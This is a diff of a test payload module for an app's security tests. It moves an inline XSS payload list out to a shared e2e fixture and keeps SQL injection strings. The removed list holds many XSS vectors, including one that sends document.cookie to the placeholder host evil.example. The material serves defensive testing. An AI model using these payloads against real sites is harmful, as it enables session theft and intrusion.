@@ -3,6 +3,7 @@
  * forms a page could execute (script tags, event handlers, javascript: URLs, SVG, srcdoc, CSS). The XSS
  * corpus is shared with the app's rendering tests, which place each payload in every rendered text field.
  */
+import { XSS_PAYLOADS as E2E_XSS_PAYLOADS } from '@/e2e/xss-payloads';
 
 export const SQL_INJECTION_PAYLOADS: readonly string[] = [
   "' OR '1'='1",
@@ -35,65 +36,8 @@ export const SQL_INJECTION_PAYLOADS: readonly string[] = [
   "/**/OR/**/1=1",
 ];
 
-export const XSS_PAYLOADS: readonly string[] = [
-  '<script>window.__xss=1</script>',
-  '<script src="https://evil.example/x.js"></script>',
-  '<SCRIPT>window.__xss=1</SCRIPT>',
-  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
-  '"><script>window.__xss=1</script>',
-  "'><script>window.__xss=1</script>",
-  '</title><script>window.__xss=1</script>',
-  '</textarea><script>window.__xss=1</script>',
-  '<img src=x onerror="window.__xss=1">',
-  '<img src=x onerror=window.__xss=1>',
-  '<IMG SRC=x OnErRoR=window.__xss=1>',
-  '<img src="x" onerror="fetch(\'https://evil.example/\'+document.cookie)">',
-  '<body onload=window.__xss=1>',
-  '<input autofocus onfocus=window.__xss=1>',
-  '<details open ontoggle=window.__xss=1>',
-  '<video><source onerror=window.__xss=1></video>',
-  '<audio src=x onerror=window.__xss=1>',
-  '<marquee onstart=window.__xss=1>',
-  '<div onmouseover="window.__xss=1">hover</div>',
-  '<select autofocus onfocus=window.__xss=1>',
-  '<a href="javascript:window.__xss=1">link</a>',
-  '<a href="JaVaScRiPt:window.__xss=1">link</a>',
-  '<a href="&#106;avascript:window.__xss=1">link</a>',
-  '<a href="jav&#x09;ascript:window.__xss=1">link</a>',
-  '<a href=" javascript:window.__xss=1">link</a>',
-  'javascript:window.__xss=1',
-  '<form action="javascript:window.__xss=1"><button>go</button></form>',
-  '<button formaction="javascript:window.__xss=1">go</button>',
-  '<svg onload=window.__xss=1>',
-  '<svg><script>window.__xss=1</script></svg>',
-  '<svg><a xlink:href="javascript:window.__xss=1"><text y="20">x</text></a></svg>',
-  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
-  '<svg><foreignObject><img src=x onerror=window.__xss=1></foreignObject></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
-  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
-  '<iframe src="javascript:parent.__xss=1"></iframe>',
-  '<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>',
-  '<object data="javascript:window.__xss=1"></object>',
-  '<embed src="javascript:window.__xss=1">',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<style>@import "https://evil.example/x.css";</style>',
-  '<style>body{background:url("javascript:window.__xss=1")}</style>',
-  '<div style="background-image:url(javascript:window.__xss=1)">x</div>',
-  '<div style="width:expression(window.__xss=1)">x</div>',
-  '<p style="position:fixed;inset:0;z-index:9999;background:red">overlay</p>',
-  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
-  '<template><img src=x onerror=window.__xss=1></template>',
-  '<x onclick=window.__xss=1>click</x>',
-  '{{constructor.constructor("window.__xss=1")()}}',
-  '${window.__xss=1}',
-  '<img src=x onerror="&#119;indow.__xss=1">',
-  '<<script>script>window.__xss=1<</script>/script>',
-  '<img src="https://evil.example/beacon.gif">',
-  '%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E',
-  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
-];
+/** The same hostile markup the e2e places in every screen, here to reach every endpoint's text fields. */
+export const XSS_PAYLOADS: readonly string[] = E2E_XSS_PAYLOADS.map((payload) => payload.markup);
 
 /** Strings that break naive parsers and encoders rather than exploit them. */
 export const AWKWARD_STRINGS: readonly string[] = [
